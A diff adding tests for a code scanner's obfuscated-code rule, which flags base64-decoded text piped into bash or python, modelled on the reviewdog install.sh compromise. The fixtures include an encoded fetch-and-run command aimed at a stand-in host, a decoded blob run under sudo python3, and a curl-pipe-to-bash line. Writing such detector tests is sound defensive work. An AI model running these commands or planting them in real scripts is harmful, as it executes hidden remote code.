@@ -503,6 +503,18 @@ describe('limits', () => {
 
 });
 
+describe('obfuscated-code in shell scripts: decoded text piped into an interpreter', () => {
+  const ids = (path: string, added: string[]) => scan([makeFile(path, { patch: hunk(added) })]).filter((f) => f.id === 'obfuscated-code').map((f) => `${f.severity}:${f.line}`);
+  it('reports a base64 blob decoded into bash or python, on one line or across the hunk (the reviewdog install.sh of March 2025)', () => {
+    expect(ids('install.sh', ['echo "aWYgW1sgIiRPU1RZUEUiID09ICJsaW51eC1nbnUiIF1dOyB0aGVuIGN1cmwgLXNTZiBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g7IGZp" | base64 -d | bash'])).toEqual(['high:11']);
+    expect(ids('scripts/setup.sh', ['P=$(printf %s "$BLOB" | base64 --decode)', 'echo "$P" | sudo python3'])).toEqual(['high:12']);
+  });
+  it('is quiet on a secret decoded into a file or an archive unpacked, and on a download piped to a shell without a decode', () => {
+    expect(ids('scripts/ci-keys.sh', ['echo "$SIGNING_KEY" | base64 -d > signing.key', 'base64 -d < bundle.b64 | tar xz -C vendor'])).toEqual([]);
+    expect(ids('scripts/install-tools.sh', ['curl -fsSL https://get.example.dev/install.sh | bash'])).toEqual([]);
+  });
+});
+
 describe('pr-claim-mismatch over a weakened protection', () => {
   const claim = (title: string, added: string[], removed: string[], path = 'app/auth.py') =>
     scan([makeFile(path, { patch: hunk(added, removed) })], title).find((f) => f.id === 'pr-claim-mismatch');
